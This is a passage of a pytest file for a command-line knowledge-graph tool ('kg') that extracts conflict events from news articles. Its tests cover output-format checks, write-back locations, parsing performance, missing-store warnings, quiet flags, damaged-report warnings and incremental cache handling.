        assert result.exit_code == 0 and result.stdout == quiet.stdout
        assert f"{graph} was changed after the build" in result.output and "kg build' again" in result.output


@pytest.mark.parametrize(("args", "name"), [
    (["plot", "timeline"], "chart.svg"), (["plot", "network"], "chart.pdf"), (["view"], "page.png"),
    (["export", "--format", "acled"], "events.xlsx"), (["export", "--format", "jsonld"], "triples.ttl"),
])
def test_reliability_probe5_an_output_named_as_another_format_is_refused(tmp_path, args, name):
    """`kg plot timeline -o chart.svg` wrote PNG bytes into chart.svg, `kg export -f acled -o x.xlsx`
    CSV into x.xlsx, `-f jsonld -o x.ttl` JSON-LD into a .ttl, `kg view -o page.png` HTML: files
    whose names say another format. A usage error (exit 2), before any work; the usual names (and
    a name without a suffix) are written as before."""
    from conftest import make_graph

    make_graph().serialize(destination=str(tmp_path / "graph.ttl"), format="turtle")
    result = runner.invoke(app, [*args, "-g", str(tmp_path / "graph.ttl"), "-o", str(tmp_path / name)])
    assert result.exit_code == 2 and "kg writes" in result.output and "name it ." in result.output, result.output
    assert not (tmp_path / name).exists()
    usual = {"plot": ".png", "view": ".html", "acled": ".csv", "jsonld": ".jsonld"}[args[-1] if args[0] == "export"
                                                                                  else args[0]]
    for ok in (f"out{usual}", f"OUT{usual.upper()}"):
        result = runner.invoke(app, [*args, "-g", str(tmp_path / "graph.ttl"), "-o", str(tmp_path / ok)])
        assert result.exit_code == 0 and (tmp_path / ok).is_file(), result.output


def test_reliability_probe5_the_api_refuses_an_output_named_as_another_format(tmp_path):
    from conftest import make_graph

    import kg
    from kg.errors import UsageError

    make_graph().serialize(destination=str(tmp_path / "graph.ttl"), format="turtle")
    g = kg.open(tmp_path)
    with pytest.raises(UsageError, match="HTML page"):
        g.view(tmp_path / "v.png")
    with pytest.raises(UsageError, match="ACLED's CSV"):
        g.export("acled", tmp_path / "a.xlsx")
    assert not list(tmp_path.glob("[av].*"))


def test_reliability_probe5_network_write_back_stays_in_the_build_folder_and_out_needs_it(tmp_path):
    """`kg network -g DIR --write-back` wrote DIR.measures.ttl beside the folder, outside it; `--out F`
    without --write-back was silently ignored (no file, exit 0); `--write-back --out m.png` wrote Turtle
    into a .png. The copy goes beside the folder's graph.ttl; the other two are usage errors."""
    from conftest import make_graph

    build = tmp_path / "build"
    build.mkdir()
    make_graph().serialize(destination=str(build / "graph.ttl"), format="turtle")
    done = runner.invoke(app, ["network", "-g", str(build), "--write-back", "-q"])
    assert done.exit_code == 0 and (build / "graph.measures.ttl").is_file(), done.output
    assert not (tmp_path / "build.measures.ttl").exists()
    alone = runner.invoke(app, ["network", "-g", str(build), "--out", str(tmp_path / "m.ttl"), "-q"])
    assert alone.exit_code == 2 and "--write-back" in alone.output and not (tmp_path / "m.ttl").exists()
    png = runner.invoke(app, ["network", "-g", str(build), "--write-back", "--out", str(tmp_path / "m.png"), "-q"])
    assert png.exit_code == 2 and "Turtle" in png.output and not (tmp_path / "m.png").exists()


@pytest.mark.model
def test_reliability_probe5_clause_dates_compares_events_of_one_sentence_only(monkeypatch):
    """A 200,000-character article on one line took 114 s to parse, 6 times a dispatch of that length:
    clause_dates compared every undated event with every event of the article (66 million checks on a
    20,000-character piece) to keep those of its sentence. It looks only at its sentence's dated
    events: the same dates, at a cost that grows with the events of one sentence."""
    from kg.extract import episodes
    from kg.extract.batch import extract_batch
    from kg.ingest import article_from_text

    calls = []
    real = episodes._dated
    monkeypatch.setattr(episodes, "_dated", lambda e: calls.append(1) or real(e))
    sentence = ("L'armée syrienne a bombardé Homs lundi et les rebelles ont attaqué Alep, selon l'OSDH, "
                "puis des combats ont éclaté à Hama. ")
    art = article_from_text("long", " date 2016-03-14\n" + sentence * 40)
    ex = extract_batch([art])[0]
    assert ex.events and all(e.date is not None for e in ex.events)
    assert len(calls) <= 25 * 40, len(calls)  # 363 here; 9,763 before (all pairs of the article's events)


@pytest.mark.model
def test_reliability_probe5_readers_read_the_file_named_and_say_a_missing_store(tmp_path):
    """`kg query -g DIR/graph.measures.ttl` (the copy `kg network --write-back` writes beside
    graph.ttl) answered from the build's store, which has no ckg:pageRank: 0 rows. A deleted store
    (or a `store` link to nothing) was read around without a word. A file other than the build's
    graph.ttl/graph.trig is read as itself; a missing store the report names is said."""
    out = tmp_path / "o"
    _build([ONE], out)
    done = runner.invoke(app, ["network", "-g", str(out / "graph.ttl"), "--write-back", "-q"])
    assert done.exit_code == 0, done.output
    ranks = "PREFIX ckg: <https://w3id.org/conflict-kg/ontology#> SELECT (COUNT(*) AS ?n) WHERE { ?a ckg:pageRank ?r }"
    result = runner.invoke(app, ["query", ranks, "-g", str(out / "graph.measures.ttl"), "-f", "csv"])
    assert result.exit_code == 0 and int(result.stdout.split()[1]) > 0, result.output
    want = runner.invoke(app, ["query", COUNT, "-g", str(out), "-f", "csv"]).stdout
    (out / "store").unlink()
    os.symlink(".store-gone", out / "store")
    result = runner.invoke(app, ["query", COUNT, "-g", str(out), "-f", "csv"])
    assert result.exit_code == 0 and result.stdout == want
    assert "store is missing" in result.output and "answering from" in result.output


def test_reliability_probe5_jobs_with_dask_is_a_usage_error(tmp_path):
    """`kg build --jobs 2 --dask local:1` ran on the Dask cluster and dropped --jobs without a word:
    two answers to one question (where the extraction runs) is a usage error, before any work."""
    result = runner.invoke(app, ["build", str(ONE), "-o", str(tmp_path / "o"), "-q", "--jobs", "2", "--dask", "local:1"])
    assert result.exit_code == 2 and "--jobs 2 and --dask local:1" in result.output
    assert not (tmp_path / "o").exists()


# ============================================================== sixth session (#14): the fifth's leftovers
def test_reliability_leftovers_every_command_takes_quiet(tmp_path, monkeypatch):
    """kg query, kg entities and kg serve refused -q (exit 2, "No such option: -q"), which the other
    commands take: a script passing -q to every command stopped there. kg query shows its one slow step
    on a terminal (reading a graph file when there is no store: 47 s at 3,400 articles), and nothing
    with -q; the answer is the same."""
    import typer.main
    from conftest import make_graph

    import kg.progress
    from kg.cli import COMMANDS

    cli = typer.main.get_command(app)
    lacking = [name for name in COMMANDS
               if not any({"-q", "--quiet"} <= set(p.opts) for p in cli.commands[name].params)]
    assert lacking == []

    class Recorder(kg.progress.Progress):
        def __init__(self):
            self.stages: list[str] = []

        def stage(self, name, total=None, unit="item", done=0):
            self.stages.append(name)
            return super().stage(name, total, unit, done)

    shown: list = []

    def terminal(stream=None, quiet=False):  # what a terminal shows (a silent Progress with -q)
        shown.append(kg.progress.Progress() if quiet else Recorder())
        return shown[-1]

    monkeypatch.setattr(kg.progress, "terminal_progress", terminal)
    graph = tmp_path / "graph.ttl"
    make_graph().serialize(destination=str(graph), format="turtle")
    loud = runner.invoke(app, ["query", COUNT, "-g", str(graph), "-f", "csv"])
    assert loud.exit_code == 0 and [getattr(p, "stages", None) for p in shown] == [["read"]], loud.output
    shown.clear()
    quiet = runner.invoke(app, ["query", COUNT, "-g", str(graph), "-f", "csv", "-q"])
    assert quiet.exit_code == 0, quiet.output
    assert quiet.stdout == loud.stdout and int(quiet.stdout.split()[1]) == len(make_graph())
    assert [type(p) for p in shown] == [kg.progress.Progress]
    (tmp_path / "entities.csv").write_text(
        "entity,kind,class,label,located_in,affiliated_with,geonames,surface_forms,rules,min_score,articles\n"
        "x,actor,Person,X,,,,X ×1,new,1.0,a1\n", encoding="utf-8")
    loud = runner.invoke(app, ["entities", "-g", str(tmp_path)])
    quiet = runner.invoke(app, ["entities", "-g", str(tmp_path), "-q"])
    assert loud.exit_code == quiet.exit_code == 0 and quiet.output == loud.output and "(1 entity)" in quiet.output


@pytest.mark.model
def test_reliability_leftovers_export_and_entities_say_a_damaged_report_json(tmp_path):
    """With report.json truncated, or JSON of another shape, kg query, kg view, kg network and kg plot
    say it cannot be read; kg export and kg entities answered without a word. They say it as the
    readers do, and still write and print what they did before."""
    out = tmp_path / "o"
    _build([ONE], out)
    formats = {"acled": "a.csv", "gexf": "n.gexf", "graphml": "n.graphml", "jsonld": "g.jsonld"}

    def exports(where: Path) -> tuple[dict, list[str]]:
        where.mkdir()
        written, said = {}, []
        for fmt, name in formats.items():
            result = runner.invoke(app, ["export", "-f", fmt, "-g", str(out), "-o", str(where / name)])
            assert result.exit_code == 0, result.output
            written[fmt] = (where / name).read_bytes()
            said.append(result.output)
        result = runner.invoke(app, ["entities", "-g", str(out), "-f", "csv"])
        assert result.exit_code == 0, result.output
        written["entities"] = result.stdout
        said.append(result.output)
        return written, said

    want, said = exports(tmp_path / "before")
    assert not [s for s in said if "warning" in s]
    raw = (out / "report.json").read_bytes()
    for n, damaged in enumerate((raw[: len(raw) // 2], b"[1, 2]\n")):
        (out / "report.json").write_bytes(damaged)
        got, said = exports(tmp_path / f"after{n}")
        assert got == want
        for text in said:
            assert f"kg: warning: {out / 'report.json'} cannot be read" in text and "Run 'kg build' again" in text


def test_reliability_leftovers_corrupt_cache_entries_are_not_counted_as_done(tmp_path, monkeypatch):
    """`kg build --incremental` said "parse: 3 articles (3 already done)" when one of the three entries
    was truncated (a warning said so and the article was parsed again, uncounted, in the build's own
    process). Only the entries that will be used count as done; the others are parsed with the new ones."""
    import io

    from kg.extract import Extraction
    from kg.ingest import article_from_text
    from kg.pipeline import extraction
    from kg.pipeline.incremental import ExtractionCache, article_key
    from kg.progress import PlainProgress

    arts = [article_from_text(f"a{i}", f" date 2024-11-0{i + 1}\nLes rebelles ont pris Alep ({i}).") for i in range(3)]
    cache = ExtractionCache(tmp_path / "cache", version="0123456789abcdef")
    for art in arts:
        cache.put(Extraction(art, (), ()))
    entry = cache._path(article_key(arts[1]))
    entry.write_bytes(entry.read_bytes()[:-5])  # truncated
    parsed: list[list[str]] = []
    monkeypatch.setattr(extraction, "extract_batch",
                        lambda batch: parsed.append([a.id for a in batch]) or [Extraction(a, (), ()) for a in batch])
    monkeypatch.setattr(extraction, "warm_up", lambda: None)
    shown = io.StringIO()
    got = extraction.extract_articles(arts, progress=PlainProgress(shown, interval=0), cache=cache, jobs=1)
    assert [ex.article.id for ex in got] == ["a0", "a1", "a2"] and parsed == [["a1"]]
    lines = shown.getvalue().splitlines()
    assert "kg: parse: 3 articles (2 already done)" in lines, lines
    assert any(line.startswith("kg: parse [3/3]  100 %") for line in lines), lines
    assert len(cache.problems) == 1 and str(entry) in cache.problems[0] and "a1 parsed again" in cache.problems[0]
    assert cache.usable(arts[1])  # written again


@pytest.mark.model
def test_reliability_leftovers_remove_after_a_plain_build_keeps_the_cache_it_made(tmp_path, monkeypatch):
    """`kg remove` of a build made without --incremental parses every remaining article (documented), but
    kept nothing of it: the next `kg remove` parsed them all again. It writes the cache `kg build
    --incremental` keeps (the same entries, of this code version), so the next removal parses nothing;
    the exports are those of a build of the remaining articles."""
    from kg.ingest import read_article
    from kg.pipeline import extraction
    from kg.pipeline.incremental import CACHE_DIR_NAME, ExtractionCache

    out = tmp_path / "o"
    _build(SEED_FILES[:3], out)
    assert not (out / CACHE_DIR_NAME).exists()
    parsed: list[str] = []
    real = extraction.extract_batch
    monkeypatch.setattr(extraction, "extract_batch", lambda batch: parsed.extend(a.id for a in batch) or real(batch))
    result = runner.invoke(app, ["remove", SEED_FILES[0].stem, "-o", str(out), "-q", "--no-html", "--no-validate"])
    assert result.exit_code == 0, result.output
    assert sorted(parsed) == [p.stem for p in SEED_FILES[1:3]]
    cache = ExtractionCache(out / CACHE_DIR_NAME)  # of this code version, one entry per parsed article
    assert all(cache.get(read_article(p)) is not None for p in SEED_FILES[1:3]) and cache.problems == []
    parsed.clear()
    result = runner.invoke(app, ["remove", SEED_FILES[1].stem, "-o", str(out), "-q", "--no-html", "--no-validate"])
    assert result.exit_code == 0, result.output
    assert parsed == []  # the remaining article came from the cache
    assert _report(out)["articles"] == 1 and len(list(cache.dir.glob("*/*.json"))) == 1  # pruned to it
    monkeypatch.setattr(extraction, "extract_batch", real)
    _build(SEED_FILES[2:3], tmp_path / "alone")
    for name in ("graph.ttl", "graph.trig", "events.csv", "entities.csv", "derived.ttl"):
        assert (out / name).read_bytes() == (tmp_path / "alone" / name).read_bytes(), name
